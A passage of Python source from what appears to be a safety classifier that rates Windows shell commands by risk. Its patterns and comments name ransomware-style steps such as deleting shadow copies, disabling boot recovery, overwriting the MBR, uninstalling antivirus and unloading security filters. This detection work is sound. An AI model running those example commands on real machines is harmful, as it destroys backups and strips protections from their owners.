_REG_SECURITY_NEEDS = tuple(_needed_literals(rx) for rx, _ in _REG_SECURITY)
_ASEP_NEEDS = tuple(_needed_literals(rx) for rx, _, _ in _ASEP)
_REG_SECURITY_GATED = tuple(zip(_REG_SECURITY, _REG_SECURITY_NEEDS, strict=True))
_ASEP_GATED = tuple(zip(_ASEP, _ASEP_NEEDS, strict=True))
_REG_UNANCHORED = _unanchored(
    [r"\\windows nt\\(?:currentversion\\)?systemrestore\b"]
    + [rx.pattern for rx, _ in _REG_SECURITY]
    + [rx.pattern for rx, _, _ in _ASEP]
)
_SYSTEM_RESTORE_OFF = re.compile(
    r"\\windows nt\\(?:currentversion\\)?systemrestore\b.*\b(disablesr|disableconfig)\b\D*1\b"
)


def _literal_trie(texts: list[str]) -> str:
    """A pattern matching any of `texts`, its alternatives merged by common prefix (the
    engine then tries one branch per character, not one per text)."""
    tree: dict[str, Any] = {}
    for text in texts:
        node = tree
        for ch in text:
            node = node.setdefault(ch, {})
        node[""] = {}

    def emit(node: dict[str, Any]) -> str:
        alts = [re.escape(ch) + emit(sub) for ch, sub in sorted(node.items()) if ch]
        if "" in node:
            return "(?:" + "|".join(alts) + ")?" if alts else ""
        return alts[0] if len(alts) == 1 else "(?:" + "|".join(alts) + ")"

    return emit(tree)


def _any_needed(patterns: list[re.Pattern[str]], also: list[str]) -> re.Pattern[str] | None:
    """One pattern that finds any text one of `patterns` needs for every match (`_needed_in`,
    whatever the pattern starts with), or any of `also`: a text it does not match matches
    none of `patterns`. None when some pattern needs no such text (or ignores case)."""
    try:
        parser: Any = importlib.import_module("re._parser")
        found: set[str] = set(also)
        for rx in patterns:
            if rx.flags & re.IGNORECASE:
                return None
            needed = _needed_in(
                list(parser.parse(rx.pattern, rx.flags)), parser.LITERAL, parser.BRANCH
            )
            if needed is None:
                return None
            found.update(needed)
    except Exception:  # (another Python's parser: no first look)
        return None
    # (a text that holds another is found through it)
    kept = sorted(t for t in found if not any(o != t and o in t for o in found))
    return re.compile(_literal_trie(kept))


# Every text registry_risk's patterns need (`\\policies\\` is what _BACKUP_POLICY is asked after).
_REG_NEEDED = _any_needed(
    [_SYSTEM_RESTORE_OFF, *[rx for rx, _ in _REG_SECURITY], *[rx for rx, _, _ in _ASEP]],
    ["\\policies\\"],
)


def _dash_flags(cmd: Cmd) -> set[str]:
    """`/set` and `-set` alike (bcdedit, reagentc and most Windows tools take either)."""
    return _win_flags(cmd) | {
        "/" + w.text[1:].lower()
        for w in cmd.args
        if w.text[:1] in "-\u2013\u2014" and w.text[1:2].isalpha()
    }


# An entry's recovery settings, or the elements without which it does not boot: deleting
# one with `/deletevalue` turns recovery off or leaves the entry unbootable.
_RECOVERY_VALUES = frozenset({"recoveryenabled", "recoverysequence"})
_BOOT_ELEMENTS = frozenset({"osdevice", "device", "path", "systemroot"})


def _deleted_value(words: list[str]) -> str:
    """The datatype `bcdedit … /deletevalue [{id}] <datatype>` deletes ("" if none): the
    operand after the entry id, not any word of the command (`/store C:\\path\\BCD`)."""
    for k, t in enumerate(words):
        if t != "/deletevalue":
            continue
        rest = [w for w in words[k + 1 :] if w]
        if rest and rest[0].startswith("{"):
            rest = rest[1:]
        return rest[0] if rest and not rest[0].startswith("/") else ""
    return ""


def _bcdedit(cmd: Cmd) -> None:
    flags = _dash_flags(cmd)
    if not flags or flags <= {"/enum", "/v"} or _help(cmd):
        return
    if flags <= {"/export", "/store"}:
        # `bcdedit /export C:\backup\bcd.bak`: a copy of the boot store (a backup)
        cmd.add(M, "write", "bcdedit /export writes a copy of the boot configuration")
        return
    if "/delete" in flags and not flags & {"/enum"}:
        cmd.add(B, "boot-config", "bcdedit /delete removes boot entries: the machine may not boot")
        return
    if "/import" in flags:
        # (n17w) `bcdedit /import FILE [/clean]`: the whole boot store is replaced by the file
        # (a boot store overwritten, like deleted entries)
        cmd.add(B, "boot-config", "bcdedit /import replaces the whole boot configuration store")
        return
    text = " ".join(cmd.texts()).lower()
    text = re.sub(r"(?:^|(?<=\s))[-\u2013\u2014](?=[a-z])", "/", text)
    deleted = _deleted_value(text.split()) if "/deletevalue" in flags else ""
    if deleted in _BOOT_ELEMENTS:
        # (`/deletevalue {default} osdevice`: the entry no longer says what to boot)
        cmd.add(B, "boot-config", f"bcdedit deletes the entry's {deleted}: it cannot boot")
        return
    if re.search(
        r"recoveryenabled\s+[\"']?(no|off|0|false)\b|bootstatuspolicy\s+[\"']?ignoreallfailures",
        text,
    ) or (deleted in _RECOVERY_VALUES):
        # (`/deletevalue {default} recoveryenabled`, `… recoverysequence`: the entry's
        # recovery settings deleted, session-13 convention; b12)
        cmd.add(B, "boot-recovery-off", "bcdedit turns off Windows recovery (ransomware step)")
        return
    if re.fullmatch(
        r"/set(\s+\{[^}]*\})?\s+(recoveryenabled\s+(yes|on|1|true)"
        r"|bootstatuspolicy\s+displayallfailures)",
        text.strip(),
    ):
        cmd.add(M, "boot-config", "bcdedit turns Windows recovery (back) on")
        return
    cmd.add(C, "boot-config", "bcdedit changes how Windows boots (recovery, safe mode, signing)")


def _boot_code(cmd: Cmd) -> None:
    """`bootsect /nt60 C: /mbr` rewrites a volume's (or the disk's) boot code; `bcdboot`
    writes boot files and a new boot store: how the machine boots changes (critical, like
    `bcdedit /set`)."""
    flags = _dash_flags(cmd)
    if not cmd.args or flags & {"/help", "/h"} or _help(cmd):
        return
    ops = {w.text.lower() for w in cmd.args}
    if cmd.name.startswith("bootsect") and ("all" in ops or {"/mbr", "/force"} <= ops):
        # (n14w) `bootsect /nt60 all /force /mbr`: the boot code of every volume (and the
        # disk's master boot record) overwritten, volumes forcibly dismounted: a raw
        # boot-sector write (blocked, as `dd` onto a disk's first sector)
        cmd.add(B, "boot-config", f"{cmd.name} overwrites the boot code of every volume or the MBR")
        return
    cmd.add(C, "boot-config", f"{cmd.name} rewrites boot code or boot files")


def _tiny_storage(value: float, unit: str) -> bool:
    """A shadow-storage cap too small to keep any restore point (under 2 GB or 2%)."""
    if unit == "%":
        return value < 2
    scale = {"kb": 1 / 1024 / 1024, "mb": 1 / 1024, "gb": 1.0, "tb": 1024.0}.get(unit, 1 / 1024**3)
    return value * scale < 2


def _vssadmin(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    if re.search(r"\bdelete\b", text):
        cmd.add(B, "delete-backups", "deletes Volume Shadow Copies (Windows restore points)")
    elif re.search(r"\bresize\b", text):
        m = re.search(r"/maxsize=(\d+(?:\.\d+)?)\s*(kb|mb|gb|tb|%)?", text)
        if re.search(r"/maxsize=unbounded\b", text):
            cmd.add(
                M, "backup", "lets shadow storage grow without limit (keeps more restore points)"
            )
        elif m and _tiny_storage(float(m.group(1)), m.group(2) or ""):
            cmd.add(
                B, "shadow-storage-tiny", "shrinking shadow storage this far deletes restore points"
            )
        else:
            cmd.add(C, "delete-backups", "shrinking shadow storage deletes restore points")
    elif "list" in text:
        return
    else:
        cmd.add(M, "backup", "changes shadow copies")


# Antivirus / EDR product names as they appear in an uninstall filter.
_AV_PRODUCT = re.compile(
    r"(?i)sophos|defender|crowdstrike|falcon|symantec|norton|mcafee|trellix|\beset\b|kaspersky"
    r"|sentinel ?one|carbon ?black|trend ?micro|malwarebytes|cylance|bitdefender|avast|\bavg\b"
    r"|webroot|f-secure|cortex xdr|traps|endpoint protection|antivirus|anti-virus"
)


def _crt_quoted(cmd: Cmd, first: Word) -> Word | None:
    """The argument wmic itself reads when cmd.exe split it: `"reg add \\"HKLM\\…\\" /v x"`
    holds `\\"` escapes (Microsoft C runtime rules), which cmd.exe does not know, so its
    words end early; re-read the source from that argument with the runtime's rules."""
    raw = cmd.scope.source[first.start : cmd.end].lstrip()
    if not raw.startswith('"') or '\\"' not in raw:
        return None
    out: list[str] = []
    k = 1
    while k < len(raw):
        ch = raw[k]
        if ch == "\\" and raw[k + 1 : k + 2] == '"':
            out.append('"')
            k += 2
            continue
        if ch == '"':
            break
        out.append(ch)
        k += 1
    return Word("".join(out), first.start, first.start + k + 1, first.dynamic)


def _wmic(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    low = [w.text.lower() for w in cmd.args]
    if ("share" in low or "win32_share" in low) and "create" in low:
        src = cmd.scope.source
        line = src[cmd.start : cmd.end] if 0 <= cmd.start < cmd.end <= len(src) else text
        if share_created(line, cmd.scope):
            return
    if "stdregprov" in text and "delete" in text:
        # `wmic … class StdRegProv call DeleteKey hDefKey=2147483650 sSubKeyName="SYSTEM"`
        named = dict(re.findall(r"(?i)\b(hdefkey|ssubkeyname|svaluename)\s*=\s*(\S+)", text))
        verb = "deletekey" if "deletekey" in text else "deletevalue"
        spelled = (
            f"{verb} {named.get('hdefkey', '')} '{named.get('ssubkeyname', '').strip(chr(34))}'"
            f" '{named.get('svaluename', '').strip(chr(34))}'"
        )
        found = stdregprov_verdicts(spelled)
        for level, rule, reason, _, _ in found:
            cmd.add(level, rule, reason)
        if found:
            return
    if "product" in low and "uninstall" in low and _AV_PRODUCT.search(text):
        # `wmic product where "name like '%Sophos%'" call uninstall`: the protection goes.
        cmd.add(C, "disable-security", "wmic uninstalls an antivirus or EDR product")
        return
    for i in range(len(low) - 2):
        if low[i : i + 3] == ["process", "call", "create"] and i + 3 < len(low):
            # wmic process call create "cmd /c …": the command line is judged as cmd.
            inner = _crt_quoted(cmd, cmd.args[i + 3]) or cmd.args[i + 3]
            cmd.add(M, "wmic", "wmic starts a process", inner)
            if inner.dynamic:
                cmd.add(C, "eval-dynamic", "wmic runs a command only known at run time", inner)
            cmd.scope.include(cmd.scope.nested(inner.text, "cmd", inner, -1))
            return
    if re.search(r"__eventfilter|eventconsumer|__filtertoconsumerbinding", text) and re.search(
        r"\bcreate\b|\bset\b", text
    ):
        cmd.add(C, "persistence-wmi", "a WMI event subscription runs code on an event")
        return
    if "useraccount" in text and re.search(r"\bdelete\b", text) and "call" not in text:
        # (n19w) `wmic useraccount where name='Administrator' delete`; with no where clause
        # every account
        clause = re.search(r"\bwhere\b(.*)\bdelete\b", text)
        accounts = re.findall(r"name\s*=\s*['\"]?([^'\"\s)]+)", clause.group(1)) if clause else []
        if clause is None or any(_BUILTIN_ADMIN.match(n) for n in accounts):
            what = "every user account" if clause is None else "the built-in administrator"
            cmd.add(B, "user-delete", f"wmic deletes {what}")
        else:
            cmd.add(D, "user-delete", "wmic deletes a user account")
        return
    if "useraccount" in text and re.search(r"\b(set|create|rename|call)\b", text):
        if re.search(r"\bdelete\b", text):
            cmd.add(D, "user-delete", "wmic deletes a user account")
        else:
            cmd.add(C, "account", "wmic changes a user account")
        return
    if "stdregprov" in text and re.search(r"\bset\w*value\b|\bcreatekey\b", text):
        hit = registry_risk(text)
        if hit is not None:
            cmd.add(*hit)
        else:
            cmd.add(M, "registry", "wmic changes the registry through StdRegProv")
        return
    if re.search(r"/format:\W*(https?|ftp)://|/format:\W*\\\\", text):
        cmd.add(C, "remote-code", "wmic /format runs a stylesheet (script) from the network")
        return
    if re.search(r"\b(volume|logicaldisk)\b", text) and re.search(r"\bcall\s+format\b", text):
        cmd.add(B, "mkfs", "wmic formats a volume (erases everything on it)")
        return
    if "shadowcopy" in text and "delete" in text:
        cmd.add(B, "delete-backups", "deletes Volume Shadow Copies (Windows restore points)")
        return
    if re.search(r"\b(delete|call)\b", text):
        _wmic_as_cim(cmd, low)
    if re.search(r"\b(delete|call|terminate|create|set)\b", text):
        stops = re.search(r"\bcall\s+(stopservice|pauseservice)\b", text) or re.search(
            r"\bcall\s+changestartmode\W+disabled\b", text
        )  # a service stopped or disabled (sig7); uninstalling a program stays moderate
        cmd.add(
            D if "terminate" in text or "delete" in text or stops else M,
            "wmic",
            "wmic changes the system",
        )
    else:
        return


# (n17w) wmic's aliases and the WMI classes they stand for: `wmic service where … call
# delete` is the Win32_Service instance's Delete, as Invoke-CimMethod calls it.
_WMIC_CLASSES = {
    "service": "Win32_Service",
    "sysdriver": "Win32_SystemDriver",
    "process": "Win32_Process",
    "fsdir": "Win32_Directory",
    "datafile": "CIM_DataFile",
    "computersystem": "Win32_ComputerSystem",
    "nic": "Win32_NetworkAdapter",
}
# (w21) classes whose method acts on whichever instances the condition picks, named or not:
# `wmic computersystem call unjoindomainorworkgroup`, `wmic nic where NetEnabled=true call
# disable` (every enabled adapter)
_WMIC_ANY_INSTANCE = frozenset({"win32_computersystem", "win32_networkadapter"})
_WMIC_WHERE_NAME = re.compile(
    r"(?i)\b(name|processname|driveletter)\s*(=|\blike\b)\s*['\"]?([^'\"()]*?)['\"]?\s*\)?\s*\Z"
)


def _wmic_as_cim(cmd: Cmd, low: list[str]) -> None:
    """`wmic [/node:x] service|sysdriver|process|fsdir|datafile|path CLASS where COND call
    METHOD` (or `delete`): judged as the same method through the CIM cmdlets (a core service
    deleted is blocked like `sc delete` of it)."""
    at = next((i for i, t in enumerate(low) if not t.startswith("/")), -1)
    if at < 0:
        return
    if low[at] == "path" and at + 1 < len(low):
        cls = cmd.args[at + 1].text
        at += 1
    elif low[at] in _WMIC_CLASSES:
        cls = _WMIC_CLASSES[low[at]]
    else:
        return
    rest = low[at + 1 :]
    end = next((i for i, t in enumerate(rest) if t in ("call", "delete")), -1)
    if end < 0 or (rest[end] == "call" and end + 1 >= len(rest)):
        return
    method = "Delete" if rest[end] == "delete" else rest[end + 1]
    words = [w.text for w in cmd.args[at + 1 : at + 1 + end]]
    cond = " ".join(words[1:] if words and words[0].lower() == "where" else words)
    m = _WMIC_WHERE_NAME.search(cond.strip().lstrip("(").strip())
    if m is None or not re.fullmatch(r"[\w.:\\ $%-]+", m.group(3)):
        if cls.lower() not in _WMIC_ANY_INSTANCE or not re.fullmatch(r"\w+", method):
            return
        line = f"Get-CimInstance {cls} | Invoke-CimMethod -MethodName {method}"
    else:
        value = m.group(3).replace("\\\\", "\\")
        line = (
            f"Get-CimInstance {cls} -Filter \"{m.group(1)}='{value}'\" | "
            f"Invoke-CimMethod -MethodName {method}"
        )
    if method.lower() == "changestartmode" and "disabled" in " ".join(low):
        line += " -Arguments @{StartMode='Disabled'}"
    found = cmd.scope.nested(line, "powershell", Word(line, cmd.start, cmd.end), -1)
    for f in found:
        if f.level > M:
            cmd.scope.add(f.level, f.rule, f"wmic: {f.reason}", cmd.start, cmd.end)


# Minifilter drivers and ETW sessions of security and logging products.
_SECURITY_TRACE = re.compile(
    r"(?i)wdfilter|wdboot|wdnisdrv|sysmondrv|sysmon|csagent|sentinelmonitor|cbk7|cyprotectdrv"
    r"|eventlog-|defender|diagtrack|microsoft-windows-threat-intelligence|secureboot|mpfilter"
)


def _reagentc(cmd: Cmd) -> None:
    """Windows Recovery Environment: turning it off removes the way back from a broken boot
    (the same ransomware step as `bcdedit … recoveryenabled no`)."""
    flags = _dash_flags(cmd)
    if "/disable" in flags:
        cmd.add(B, "boot-recovery-off", "reagentc /disable turns off Windows recovery")
    elif flags and not flags <= {"/info"} and not _help(cmd):
        cmd.add(C, "boot-config", "reagentc changes the Windows recovery environment")


def _fltmc(cmd: Cmd) -> None:
    """fltmc lists, loads and unloads file-system minifilters; unloading a security product's
    filter (WdFilter, SysmonDrv) blinds it."""
    verb = cmd.args[0].text.lower() if cmd.args else ""
    if verb in ("", "filters", "instances", "volumes", "help") or _help(cmd):
        return
    target = " ".join(cmd.texts()[1:])
    if verb in ("unload", "detach") and _SECURITY_TRACE.search(target):
        cmd.add(C, "disable-security", f"fltmc {verb} removes a security product's file filter")
    else:
        cmd.add(M, "system-config", f"fltmc {verb} changes file-system filters")


def _logman(cmd: Cmd) -> None:
    """logman manages performance and ETW trace sessions; stopping or deleting the sessions
    that feed the event log, Defender or Sysmon removes telemetry."""
    verb = cmd.args[0].text.lower() if cmd.args else ""
    if verb in ("", "query") or _help(cmd):
        return
    target = " ".join(cmd.texts()[1:])
    if verb in ("stop", "delete", "update") and _SECURITY_TRACE.search(target):
        cmd.add(C, "clear-logs", f"logman {verb} turns off a security or event-log trace session")
    else:
        cmd.add(M, "system-config", f"logman {verb} changes trace sessions")


def _mofcomp(cmd: Cmd) -> None:
    if any(w.text.lower() in ("-check", "/check") for w in cmd.args):
        return
    cmd.add(
        C,
        "persistence-wmi",
        "mofcomp compiles a MOF file into WMI (it can register event subscriptions that run code)",
    )


def _process_mitigation(cmd: Cmd) -> None:
    if any(w.text.lower() in ("-disable", "-remove", "-reset") for w in cmd.args):
        cmd.add(C, "disable-security", "turns off exploit protections (DEP, ASLR, CFG …)")
    elif any(w.text.lower() in ("-enable", "-policyfilepath") for w in cmd.args):
        cmd.add(M, "security", "changes exploit protection settings")


def _wbadmin(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    if "delete" in text:
        cmd.add(B, "delete-backups", "deletes Windows backups or the backup catalogue")
    elif re.search(r"\bget\b", text):
        return
    elif CREDENTIAL_WINDOWS.search(text.replace("/", "\\")):
        cmd.add(C, "credential-dump", "wbadmin backs up the AD database or the SAM/SYSTEM hive")
    elif re.match(r"[-/]?disable\s+[-/]?backup\b", text):
        # The scheduled backup stops for good: no new backups (backups turned off).
        cmd.add(C, "backup-off", "wbadmin disable backup stops the scheduled backups")
    else:
        cmd.add(M, "backup", "wbadmin changes backups")


def _cipher(cmd: Cmd) -> None:
    if any(w.text.lower().startswith("/w") for w in cmd.args):
        cmd.add(B, "wipe", "cipher /w overwrites deleted data so it can never be recovered")
    elif any(w.text.lower() == "/e" for w in cmd.args) and any(
        w.text.lower().startswith("/s:") for w in cmd.args
    ):
        # Encrypting whole folder trees with a key the user may not hold (ransomware's way).
        target = next(w for w in cmd.args if w.text.lower().startswith("/s:"))
        cmd.add(C, "encrypt-data", f"cipher /e encrypts every file under {target.text[3:]}")
    elif any(w.text.lower() in ("/e", "/d", "/r", "/k", "/u", "/x") for w in cmd.args):
        cmd.add(M, "write", "cipher changes file encryption")


def _manage_bde(cmd: Cmd) -> None:
    """BitLocker: turning encryption on, adding/removing protectors or locking a volume can
    lock the owner out of every file on it (a ransomware technique); status is read-only."""
    texts = [t.lower() for t in cmd.texts()]
    verb = next((t for t in texts if t.startswith("-")), "")
    if verb in ("-status", "-h", "-help", "-cn") or not texts or _help(cmd):
        return
    if verb == "-protectors" and any(t in ("-get", "-g") for t in texts):
        return  # `manage-bde -protectors -get C:`: lists the protectors
    if verb in ("-on", "-protectors", "-changepassword", "-changepin", "-forcerecovery", "-fr"):
        cmd.add(C, "encrypt-data", f"manage-bde {verb} changes who can unlock the drive")
    elif verb in ("-off", "-pause"):
        cmd.add(C, "disable-security", f"manage-bde {verb} turns BitLocker protection off")
    elif verb == "-lock":
        cmd.add(D, "disk", f"manage-bde {verb} locks a drive")
    else:
        cmd.add(M, "disk", f"manage-bde {verb} changes drive encryption")


_ICACLS_CHANGES = frozenset(
    names(
        """
        /grant /grant:r /deny /remove /remove:g /remove:d /reset /setowner /setintegritylevel
        /restore /inheritance:e /inheritance:d /inheritance:r /substitute
        """
    )
)


def _takeown(cmd: Cmd) -> None:
    if cmd.name == "cacls" and not any(
        w.text.lower() in ("/e", "/g", "/r", "/p", "/d") or w.text.lower().startswith("/s:")
        for w in cmd.args
    ):
        return  # (h20) `cacls C:\\Windows [/T]`: displays the ACLs (/G /R /P /D /E change them)
    if cmd.name == "icacls" and not any(
        w.text.lower() in _ICACLS_CHANGES or w.text.lower().startswith(("/grant", "/deny"))
        for w in cmd.args
    ):
        # `icacls PATH [/T /C /Q]` only lists the ACLs; /save writes them to a file.
        if any(w.text.lower() == "/save" for w in cmd.args):
            cmd.add(M, "write", "icacls /save writes the ACLs to a file")
        return
    for w in _operands(cmd) + [w for w in cmd.args if ":" in w.text]:
        t = classify_path(w.text, cmd.scope.cwds, True)
        if t.level >= C:
            recursive = any(x.text.lower() in ("/r", "/t") for x in cmd.args)
            root = bool(re.fullmatch(r"(?i)[a-z]:[\\/]?", w.text.strip('"')))
            # (b12) a whole system folder re-owned or re-permissioned recursively
            # (`takeown /f C:\Windows\System32 /r`, `icacls C:\Windows /reset /t`) is
            # `chmod -R`/`chown -R` of a system directory: blocked, as a drive root is.
            folder = t.level >= B and t.rule in ("rm-system", "rm-root", "rm-home")
            cmd.add(
                B
                if recursive and ("everyone" in " ".join(cmd.texts()).lower() or root or folder)
                else C,
                "chmod-system",
                f"{cmd.name} changes ownership or access of {t.what}",
                w,
            )
            return
    if any(w.text.lower().startswith(("/save", "/verify")) for w in cmd.args) or (
        cmd.name == "icacls" and len(cmd.args) == 1
    ):
        return
    cmd.add(M, "permissions", f"{cmd.name} changes ownership or permissions")


_ADMIN_GROUPS = re.compile(
    r"administrat|admins\b|domain admins|enterprise admins|schema admins|account operators"
    r"|backup operators|server operators|remote desktop users|remote management users"
    r"|dnsadmins|group policy creator|hyper-v administrators|wheel|sudo\b|root\b",
    re.I,
)


# `/grant:user,right` (cmd may split the pair at its comma: either separator)
_NET_GRANT = re.compile(r"/grant:\s*\"?([^,\"/]{1,80}?)\"?\s*[,\s]\s*(full|change)\b")


# (n19w) the machine's built-in administrator account, by its name in several languages
# (HELPERS: the root account deleted is blocked, as every account is)
_BUILTIN_ADMIN = re.compile(
    r"(?i)\A(?:administrator|administrateur|administrador|administratör|amministratore)\Z"
)


# (n20w, F14) a loop over every local account around the deletion: `Get-LocalUser |
# ForEach-Object { Remove-LocalUser $_.Name }`, `foreach ($u in Get-LocalUser) { net user
# $u.Name /delete }` (the loop's variable is each account in turn)
_EACH_ACCOUNT_PIPE = re.compile(
    r"(?i)\bget-(?:localuser|ciminstance\s+win32_useraccount|wmiobject\s+win32_useraccount)"
    r"\b[^|;{}]{0,200}\|\s*(?:foreach-object|foreach|%)\s*(?:-process\s*)?\{[^{}]{0,400}\Z"
)
_EACH_ACCOUNT_LOOP = re.compile(
    r"(?i)\bforeach\s*\(\s*(\$\w+)\s+in\s+\(?\s*get-localuser\b[^(){}]{0,200}\)?\s*\)\s*\{[^{}]{0,400}\Z"
)


def _each_local_account(cmd: Cmd, name: str) -> bool:
    """Whether the account named `name` (as written) is each local account in turn: the
    pipeline's `$_`/`$PSItem` inside a ForEach-Object over Get-LocalUser, or a foreach
    statement's variable over it."""
    low = name.strip("'\"").lower()
    if "$" not in low or cmd.scope.family != "powershell":
        return False
    before = cmd.scope.source[max(0, cmd.start - 800) : max(cmd.start, 0)]
    if "localuser" not in before.lower() and "useraccount" not in before.lower():
        return False
    if low.startswith(("$_", "$psitem")) and _EACH_ACCOUNT_PIPE.search(before):
        return True
    loop = _EACH_ACCOUNT_LOOP.search(before)
    return loop is not None and low.startswith(loop.group(1).lower())


def builtin_admin(name: str) -> bool:
    """Whether `name` is the machine's built-in administrator account (see _BUILTIN_ADMIN)."""
    return _BUILTIN_ADMIN.match(name.strip("'\"")) is not None


def _net(cmd: Cmd) -> None:
    texts = [t.lower() for t in cmd.texts()]
    if not texts:
        return
    flags = [t for t in texts if t.startswith("/")]
    ops = [t for t in texts[1:] if not t.startswith("/")]
    verb = texts[0]
    if verb == "use" and len(ops) > 1 and cmd.scope.family == "powershell":
        _map_share(cmd, ops[0].rstrip(":"), cmd.args[2].text)  # (cmd.py maps cmd's own)
    if verb == "accounts" and flags:
        weak = re.search(
            r"/(minpwlen:0|lockoutthreshold:0|maxpwage:unlimited|uniquepw:0|minpwage:0)\b",
            " ".join(flags),
        )
        if weak:
            cmd.add(C, "disable-security", "net accounts weakens the password or lockout policy")
        elif any(f not in ("/domain", "/?", "/help") for f in flags):
            cmd.add(M, "system-config", "net accounts changes the password policy")
        return
    if verb in ("user", "users", "localgroup", "group"):
        # Accounts and group membership, local or domain (`/domain`): adding an account or
        # putting one in ANY group is an account change (critical); removing is dangerous.
        if any(f.startswith(("/del", "/delete")) for f in flags):
            if verb in ("user", "users") and ops and _each_local_account(cmd, ops[0]):
                cmd.add(B, "user-delete", "net user deletes every local account (one by one)")
                return
            if verb in ("user", "users") and ops and _BUILTIN_ADMIN.match(ops[0].strip("'\"")):
                # (n19w) `net user administrator /delete`: the machine's own administrator
                cmd.add(B, "user-delete", f"net user deletes the built-in account {ops[0]}")
                return
            cmd.add(D, "user-delete", f"net {verb} deletes an account, a group or a member")
            return
        if "/add" in flags:
            if verb != "user" and _ADMIN_GROUPS.search(" ".join(ops[:1])):
                cmd.add(C, "privilege", f"grants {ops[0]} rights to an account")
            else:
                cmd.add(C, "account", f"net {verb} /add creates an account or adds a group member")
            return
        # `/dom`, `/do`: net takes any unique abbreviation of `/domain`
        changes = [
            f
            for f in flags
            if not (f.startswith("/domain") or (len(f) >= 3 and "/domain".startswith(f)))
            and f not in ("/?", "/help")
        ]
        if verb in ("user", "users") and (len(ops) >= 2 or changes):
            # `net user bob NewPass1`, `net user guest /active:yes`: password or account flags.
            cmd.add(C, "account", "net user changes an account's password or settings")
            return
        if verb != "user" and (len(ops) >= 2 or changes):
            cmd.add(C, "account", f"net {verb} changes a group")
            return
        return
    if verb == "share" and ops and re.match(r"\A[^=]+=[a-z]:[\\/]?\Z", ops[0]):
        # `net share C=C:\ /GRANT:Everyone,FULL`: a whole drive shared to the network
        cmd.add(C, "remote-access", "net share shares a whole drive with other machines")
        return
    if verb == "share" and ops and "=" in ops[0] and shared_protected(ops[0].split("=", 1)[1], cmd):
        # `net share d=%USERPROFILE%`, `net share w=C:\Windows`: a profile or system
        # folder published to the network (h17)
        cmd.add(C, "exfiltration", "net share shares a home or system folder with other machines")
        return
    if verb == "share" and ops and "=" in ops[0]:
        for m in _NET_GRANT.finditer(" ".join(t for t in texts[:24])):
            if _anyone(m.group(1)):
                # (n19w) `net share data=D:\data /grant:everyone,full`
                _share_open_to_anyone(cmd, f"grants {m.group(1)} {m.group(2)} access", cmd.args[0])
                return
        cmd.add(M, "system-config", "net share shares a folder with other machines")
        return
    if texts[0] == "stop":
        if len(texts) > 1 and (
            security_name(texts[1]) or _PIPED_SECURITY.search(" ".join(texts[1:]))
        ):
            cmd.add(C, "disable-security", "stops a security service")
        else:
            cmd.add(D, "service-stop", "net stop stops a service")
    elif (
        len(texts) == 1
        or texts[0] in ("view", "statistics", "config", "accounts")
        or (
            texts[0] in ("user", "localgroup", "group", "share", "use", "session")
            and len(texts) <= 2
        )
    ):
        return
    else:
        cmd.add(M, "system-config", f"net {texts[0]} changes system settings")


def _backup_service(name: str) -> bool:
    from aintern_ls.safety.system import BACKUP_SERVICE

    return bool(BACKUP_SERVICE.match(name))


def _sc(cmd: Cmd) -> None:
    texts = [t.lower() for t in cmd.texts()]
    if texts and texts[0].startswith("\\\\"):
        texts = texts[1:]  # `sc \\server create …` acts on another machine the same way
    if not texts or texts[0] in (
        "query",
        "queryex",
        "qc",
        "qdescription",
        "getdisplayname",
        "sdshow",
        "qfailure",
        "qtriggerinfo",
        "qprivs",
        "qsidtype",
        "enumdepend",
        "getkeyname",
        "showsid",
    ):
        return
    if texts[0] == "sdset":
        sddl = " ".join(texts[2:]) + " " + cmd.scope.source[max(cmd.start, 0) : max(cmd.end, 0)]
        if re.search(r"(?i)\(d;", sddl) or (len(texts) > 1 and security_name(texts[1])):
            cmd.add(
                C,
                "disable-security",
                "sc sdset denies access to a service: hidden from listing, stopping or removal",
            )
        else:
            cmd.add(M, "service", "sc sdset changes who may control a service")
        return

    if texts[0] == "delete" and len(texts) > 1 and boot_service(_sc_service(cmd, texts[1])):
        # `sc delete RpcSs`: the service's key under Services is deleted (as `reg delete`)
        # (n19w: first, a core service that is also a security one, EventLog, is gone whole)
        gone = _sc_service(cmd, texts[1])
        cmd.add(B, "registry-root", f"sc delete removes {gone}, which Windows needs to boot")
    elif texts[0] in ("stop", "delete", "config") and len(texts) > 1 and security_name(texts[1]):
        cmd.add(C, "disable-security", "stops or disables a security service")
    elif texts[0] == "delete" and len(texts) > 1 and _backup_service(texts[1]):
        # (the backup or shadow-copy service removed: no more backups, like disabling it)
        cmd.add(C, "backup-off", f"sc delete removes the backup service {texts[1]}")
    elif texts[0] in ("stop", "delete"):
        cmd.add(D, "service-stop", f"sc {texts[0]} stops or deletes a service")
    elif (
        texts[0] == "config"
        and len(texts) > 1
        and texts[1] in ("wuauserv", "usosvc", "waasmedicsvc", "vss", "swprv", "wbengine", "sdrsvc")
        and re.search(r"\bstart=\s*disabled\b", " ".join(texts))
    ):
        what = (
            "Windows Update (no security patches)"
            if texts[1] in ("wuauserv", "usosvc", "waasmedicsvc")
            else "shadow copies and backups (no restore points: a ransomware step)"
        )
        cmd.add(C, "disable-security", f"turns off {what} for good")
    elif (
        texts[0] == "config"
        and not any(t.startswith(("binpath=", "start=auto", "obj=", "type=")) for t in texts)
        and not re.search(r"\bstart=\s*(auto|boot|system)\b", " ".join(texts))
    ):
        cmd.add(M, "service", "sc config changes how a service starts (not what it runs)")
    elif texts[0] in ("create", "config", "failure"):
        cmd.add(C, "persistence", f"sc {texts[0]} installs a service that starts on its own")
        for i, w in enumerate(cmd.args):
            low = w.text.lower()
            if low.startswith(("binpath=", "command=")):
                value = w.text.split("=", 1)[1] or (
                    cmd.args[i + 1].text if i + 1 < len(cmd.args) else ""
                )
                if value:
                    _judge_payload(cmd, value, "the service")
    else:
        cmd.add(M, "service", f"sc {texts[0]} changes services")


# Windows' own tasks that protect or recover the machine.
_PROTECTIVE_TASK = re.compile(
    r"(?i)systemrestore|windows defender|windowsbackup|antimalware|exploitguard"
    r"|microsoft\\windows\\(?:backup|filehistory|windowsupdate|updateorchestrator)"
)


# `schtasks /change` switches that change what a task runs, when, or as whom.
_TASK_CHANGES = frozenset(names("/tr /st /sd /et /ed /ri /du /k /delay /ru /rp /it /rl"))


def _slash_switches(cmd: Cmd) -> Cmd:
    """`schtasks -create -tn x -tr y`: the tool takes `-` for `/` (its switches as `/…`)."""
    if not any(w.text[:1] == "-" for w in cmd.args):
        return cmd
    args = [
